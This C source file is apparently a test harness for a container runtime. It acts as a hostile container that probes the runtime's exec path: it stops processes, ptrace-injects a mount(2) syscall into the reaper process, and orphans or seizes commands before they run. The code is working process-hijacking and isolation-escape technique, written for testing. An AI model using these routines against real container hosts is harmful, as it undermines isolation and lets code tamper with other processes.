/* A hostile container's view of direct exec, run as the container's command from /out.
 *
 *   attack stage    stop every process of the probe path it sees and compare its mount table
 *                   and network interfaces with its own (neither file is ptrace-checked);
 *   attack ptrace   find the reaper (the parent of the probe command `sleep 3607`), attach to
 *                   it and make it call mount(2) for a tmpfs (needs CAP_SYS_PTRACE);
 *   attack orphan   stop the probe command before its execve and kill its parent, the reaper;
 *   attack birth    attach to the reaper (needs CAP_SYS_PTRACE) so that the command it forks
 *                   is stopped at its birth, before its first instruction, then kill the reaper.
 *
 * It finds the probe path by the helper's marker in the command line, built at run time.
 * Everything it sees and manages goes to /out/log, one line each. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char marker[64];

static void note(const char *fmt, ...) {
  int fd = open("/out/log", O_WRONLY | O_APPEND | O_CREAT, 0644);
  if (fd < 0) return;
  va_list ap;
  va_start(ap, fmt);
  vdprintf(fd, fmt, ap);
  va_end(ap);
  close(fd);
}

static int slurp(const char *path, char *buf, int cap) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  int n = 0;
  for (;;) {
    int r = read(fd, buf + n, cap - 1 - n);
    if (r <= 0) break;
    n += r;
    if (n >= cap - 1) break;
  }
  close(fd);
  buf[n] = 0;
  return n;
}

static int cmdline(int pid, char *buf, int cap) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
  int n = slurp(p, buf, cap);
  for (int i = 0; i < n; i++)
    if (!buf[i]) buf[i] = ' ';
  return n;
}

static int has_marker(int pid) {
  char buf[4096];
  return cmdline(pid, buf, sizeof buf) > 0 && strstr(buf, marker) != NULL;
}

static int parent_of(int pid) {
  char p[64], buf[1024];
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  if (slurp(p, buf, sizeof buf) <= 0) return -1;
  char *r = strrchr(buf, ')');
  int ppid = -1;
  if (r) sscanf(r + 2, "%*c %d", &ppid);
  return ppid;
}

/* The interface names of a /proc/<pid>/net/dev, without the counters (which move). */
static void interfaces(const char *path, char *out, int cap) {
  char buf[16384];
  out[0] = 0;
  if (slurp(path, buf, sizeof buf) <= 0) return;
  char *save = NULL;
  int line = 0;
  for (char *l = strtok_r(buf, "\n", &save); l; l = strtok_r(NULL, "\n", &save), line++) {
    char *c = strchr(l, ':');
    if (line < 2 || !c) continue;
    *c = 0;
    while (*l == ' ') l++;
    strncat(out, l, cap - strlen(out) - 2);
    strncat(out, ",", cap - strlen(out) - 1);
  }
}

/* Pids already logged, so a process seen a thousand times is one line. */
static int logged[8192];
static int once(int pid, int kind) {
  int key = pid * 4 + kind;
  for (int i = 0; i < 8192; i++) {
    if (logged[i] == key) return 0;
    if (!logged[i]) {
      logged[i] = key;
      return 1;
    }
  }
  return 0;
}

/* Marks the attacker ready, then hands every process it sees (but init and itself) to visit,
 * scan after scan, pausing pause_us between them. */
static void watch(void (*visit)(int pid), int pause_us) {
  int me = getpid();
  close(open("/out/ready", O_WRONLY | O_CREAT, 0644));
  for (;;) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid > 1 && pid != me) visit(pid);
    }
    if (d) closedir(d);
    if (pause_us) usleep(pause_us);
  }
}

static char own_mnt[65536], own_net[4096];
static int own_len;

static void stage_one(int pid) {
  static char mnt[65536];
  char net[4096], p[64];
  if (!has_marker(pid)) return;
  kill(pid, SIGSTOP);
  snprintf(p, sizeof p, "/proc/%d/mountinfo", pid);
  int n = slurp(p, mnt, sizeof mnt);
  snprintf(p, sizeof p, "/proc/%d/net/dev", pid);
  interfaces(p, net, sizeof net);
  int still = has_marker(pid);
  kill(pid, SIGCONT);
  if (!still) return;
  if (once(pid, 0)) note("saw %d\n", pid);
  if (n >= 0 && (n != own_len || memcmp(mnt, own_mnt, n)) && once(pid, 1))
    note("foreign-mnt %d\n", pid);
  if (net[0] && strcmp(net, own_net) && once(pid, 2)) note("foreign-net %d %s\n", pid, net);
}

static void stage(void) {
  own_len = slurp("/proc/self/mountinfo", own_mnt, sizeof own_mnt);
  interfaces("/proc/self/net/dev", own_net, sizeof own_net);
  watch(stage_one, 0);
}

static long inject_mount(int pid) {
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
    note("attach-failed %d %d\n", pid, errno);
    return -1000;
  }
  int st;
  if (waitpid(pid, &st, __WALL) < 0) return -1001;
  struct user_regs_struct regs, saved;
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  saved = regs;
  unsigned long at = (regs.rsp - 4096) & ~7UL;
  long old0 = ptrace(PTRACE_PEEKDATA, pid, at, 0);
  long old1 = ptrace(PTRACE_PEEKDATA, pid, at + 8, 0);
  long insn = ptrace(PTRACE_PEEKTEXT, pid, regs.rip - 2, 0);
  long result = -1002;
  if ((insn & 0xffff) == 0x050f) {
    long fs, target;
    memcpy(&fs, "tmpfs\0\0\0", 8);
    memcpy(&target, "/tmp/pw\0", 8);
    ptrace(PTRACE_POKEDATA, pid, at, fs);
    ptrace(PTRACE_POKEDATA, pid, at + 8, target);
    regs.rax = SYS_mount;
    regs.orig_rax = -1;
    regs.rdi = at;
    regs.rsi = at + 8;
    regs.rdx = at;
    regs.r10 = 0;
    regs.r8 = 0;
    regs.rip -= 2;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    waitpid(pid, &st, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    result = (long)regs.rax;
    ptrace(PTRACE_POKEDATA, pid, at, old0);
    ptrace(PTRACE_POKEDATA, pid, at + 8, old1);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return result;
}

static void trace_one(int pid) {
  char buf[4096];
  if (cmdline(pid, buf, sizeof buf) <= 0 || strcmp(buf, "sleep 3607 ")) return;
  int reaper = parent_of(pid);
  if (reaper <= 1 || !has_marker(reaper) || !once(reaper, 0)) return;
  note("reaper %d\n", reaper);
  note("mount %d %ld\n", reaper, inject_mount(reaper));
}

static void trace(void) {
  mkdir("/tmp/pw", 0755);
  watch(trace_one, 2000);
}

static void orphan_one(int pid) {
  if (!has_marker(pid)) return;
  int parent = parent_of(pid);
  if (parent <= 1 || !has_marker(parent)) return;
  /* pid is the command before its execve, parent the reaper. */
  if (kill(pid, SIGSTOP) == 0 && kill(parent, SIGKILL) == 0 && once(pid, 0))
    note("orphaned %d %d\n", pid, parent);
}

/* The reaper: a process of the probe path whose parent is outside the container (PPID 0). */
static void birth_one(int pid) {
  if (!has_marker(pid) || parent_of(pid) != 0 || !once(pid, 1)) return;
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEFORK | PTRACE_O_TRACECLONE) < 0) {
    note("seize-failed %d %d\n", pid, errno);
    return;
  }
  /* Run the reaper on until it forks; the command is born stopped, traced by us. */
  for (;;) {
    int st;
    if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
      note("gone %d\n", pid);
      return;
    }
    int event = st >> 16;
    if (event == PTRACE_EVENT_FORK || event == PTRACE_EVENT_CLONE) {
      unsigned long child = 0;
      ptrace(PTRACE_GETEVENTMSG, pid, 0, &child);
      kill(pid, SIGKILL);
      note("orphaned %lu %d\n", child, pid);
      return;
    }
    int sig = WSTOPSIG(st);
    ptrace(PTRACE_CONT, pid, 0, (event || sig == SIGTRAP) ? 0 : sig);
  }
}

int main(int argc, char **argv) {
  snprintf(marker, sizeof marker, "%s%s", "__podward-exec-", "init");
  if (argc > 1 && !strcmp(argv[1], "stage")) stage();
  if (argc > 1 && !strcmp(argv[1], "ptrace")) trace();
  if (argc > 1 && !strcmp(argv[1], "orphan")) watch(orphan_one, 0);
  if (argc > 1 && !strcmp(argv[1], "birth")) watch(birth_one, 0);
  return 2;
}
